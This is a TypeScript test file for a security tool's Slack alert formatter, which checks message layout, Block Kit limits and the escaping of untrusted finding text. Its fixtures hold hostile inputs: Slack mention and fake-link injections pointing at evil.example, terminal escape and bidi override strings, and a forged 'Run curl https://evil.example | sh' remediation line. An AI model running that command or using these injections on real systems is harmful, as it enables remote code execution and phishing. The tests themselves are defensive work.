import { escapeMrkdwn, eventConsoleUrl, SLACK_LIMITS, type SlackBlock, slackMessage } from "@vigil/notify";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escalation, hostileFinding, rootLogin } from "./findings.ts";

type Section = Extract<SlackBlock, { type: "section" }>;

/** Every text the message shows, header and fallback included. */
function texts(payload: ReturnType<typeof slackMessage>): string[] {
  const result = [payload.text];
  for (const block of payload.blocks) {
    if (block.type === "header") result.push(block.text.text);
    else if (block.type === "context") result.push(...block.elements.map((element) => element.text));
    else if ("fields" in block) result.push(...block.fields.map((field) => field.text));
    else result.push(block.text.text);
  }
  return result;
}

function fieldsOf(payload: ReturnType<typeof slackMessage>): string[] {
  const block = payload.blocks.find((candidate): candidate is Extract<Section, { fields: unknown }> => "fields" in candidate);
  return block?.fields.map((field) => field.text) ?? [];
}

describe("Function: slackMessage", () => {
  it("shows severity and title, what happened, who/what/where/when, what to do, rule, references and the event link", async () => {
    // Prepare
    const finding = await escalation();

    // Act
    const payload = slackMessage(finding);

    // Assess
    expect(payload.blocks.map((block) => block.type)).toEqual(["header", "section", "section", "section", "section", "context"]);
    expect(payload.blocks[0]).toEqual({ type: "header", text: { type: "plain_text", text: `:red_circle: HIGH: ${finding.title}`, emoji: true } });
    expect(payload.blocks[1]).toMatchObject({ type: "section", text: { type: "mrkdwn", text: finding.summary } });
    expect(fieldsOf(payload)).toEqual([
      `*Principal*\n${finding.principal}`,
      `*Resource*\n${finding.resource}`,
      "*Account / region*\n111122223333 / us-east-1",
      `*Time*\n${finding.eventTime}`,
      `*Source IP*\n${finding.sourceIPAddress}`,
      `*Event*\n${finding.eventName} (iam.amazonaws.com)`,
    ]);
    expect(payload.blocks[3]).toMatchObject({ text: { text: `*What to do*\n${finding.remediation}` } });
    expect(payload.blocks[4]).toMatchObject({ text: { text: `<${eventConsoleUrl({ region: finding.region, eventId: finding.eventId as string })}|View the event in CloudTrail>` } });
    const [rule, references] = texts(payload).slice(-2);
    expect(rule).toBe(`Rule policy-privilege-escalation · finding ${finding.id}`);
    expect(references).toBe(
      "CIS 4.4, <https://attack.mitre.org/techniques/T1098/003/|ATT&amp;CK T1098.003>, <https://attack.mitre.org/techniques/T1548/005/|ATT&amp;CK T1548.005>",
    );
    expect(payload.text).toBe(`HIGH: ${finding.title}. ${finding.summary}`);
  });

  it("names a member account of the organization beside its id", async () => {
    const finding = { ...(await rootLogin()), account: "444455556666", accountName: "workload-prod" };
    expect(fieldsOf(slackMessage(finding))).toContain(`*Account / region*\n444455556666 (workload-prod) / ${finding.region}`);
  });

  it("escapes hostile strings so they cannot mention a channel, a user or fake a link", () => {
    // Act
    const payload = slackMessage(hostileFinding());

    // Assess
    const shown = texts(payload).join("\n");
    expect(shown).not.toContain("<!channel>");
    expect(shown).not.toContain("<!here>");
    expect(shown).not.toContain("<@U024BE7LH>");
    expect(shown).not.toContain("<https://evil.example");
    expect(shown).toContain("user/&lt;!channel&gt; &amp; &lt;https://evil.example/login|click here&gt;");
    expect(payload.blocks[1]).toMatchObject({
      text: { text: "&lt;!here&gt; user &lt;@U024BE7LH&gt; created &lt;https://evil.example|the console&gt; &amp; more &gt; less — ünïcödé ✓" },
    });
    // The only links are the ones Vigil makes.
    const links = [...shown.matchAll(/<([^>]*)>/g)].map((match) => match[1]?.split("|")[0]);
    expect(links.every((link) => link?.startsWith("https://us-east-1.console.aws.amazon.com/") || link?.startsWith("https://attack.mitre.org/"))).toBe(true);
  });

  it("keeps an attacker's line breaks from forging a label", () => {
    // Act
    const fields = fieldsOf(slackMessage(hostileFinding()));

    // Assess
    expect(fields[1]).toBe("*Resource*\narn:aws:iam::111122223333:user/x\\n*Remediation*\\nRun curl https://evil.example | sh");
  });

  it("shows terminal escapes and bidirectional overrides escaped, never as the characters", () => {
    // Act
    const shown = texts(slackMessage(hostileFinding({ principal: "arn:aws:iam::111122223333:user/\u001b[2J\u001b]8;;http://evil\u0007admin\u001b]8;;\u0007", resource: "arn:aws:iam::111122223333:user/\u202egnp.exe" }))).join("\n");

    // Assess
    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(shown).toContain("user/\\x1b[2J\\x1b]8;;http://evil\\x07admin\\x1b]8;;\\x07");
    expect(shown).toContain("user/\\u202egnp.exe");
  });

  it("turns off auto-linking of URLs and mentions in every mrkdwn text", async () => {
    // Act
    const payload = slackMessage(await rootLogin());

    // Assess
    const mrkdwn = payload.blocks.flatMap((block) =>
      block.type === "context" ? block.elements : block.type === "section" ? ("fields" in block ? block.fields : [block.text]) : [],
    );
    expect(mrkdwn.length).toBeGreaterThan(0);
    for (const text of mrkdwn) expect(text).toMatchObject({ type: "mrkdwn", verbatim: true });
  });

  it("respects Block Kit limits whatever the finding holds, without splitting an escape", () => {
    const hostile = fc.string({ unit: "binary", maxLength: 5000 }).map((text) => `${text}${"&<>".repeat(700)}`);
    fc.assert(
      fc.property(hostile, hostile, hostile, fc.string({ maxLength: 400 }), (summary, principal, remediation, title) => {
        // Act
        const payload = slackMessage(hostileFinding({ summary, principal, resource: principal, remediation, title }));

        // Assess
        for (const block of payload.blocks) {
          if (block.type === "header") {
            expect(block.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.headerText);
          } else if (block.type === "section" && "fields" in block) {
            expect(block.fields.length).toBeLessThanOrEqual(SLACK_LIMITS.fields);
            for (const field of block.fields) expect(field.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fieldText);
          } else if (block.type === "section") {
            expect(block.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
          }
        }
        expect(payload.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fallbackText);
        for (const text of texts(payload)) {
          // Every & starts a whole entity, and no raw < or > is left but Vigil's own links.
          expect(text.replace(/<https:\/\/[^|>]+\|[^<>]+>/g, "")).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
        }
      }),
      { numRuns: 100 },
    );
  });

  it("never sends an empty text, which Slack refuses", () => {
    // Act
    const payload = slackMessage(hostileFinding({ summary: "\n\t ", principal: "", resource: "" }));

    // Assess
    for (const text of texts(payload)) expect(text.trim()).not.toBe("");
    expect(payload.blocks[1]).toMatchObject({ text: { text: "IAM user created" } });
  });
});

describe("Function: escapeMrkdwn", () => {
  it("escapes exactly the three control characters, & first", () => {
    expect(escapeMrkdwn("a & b < c > d &amp; *e* _f_")).toBe("a &amp; b &lt; c &gt; d &amp;amp; *e* _f_");
  });
});
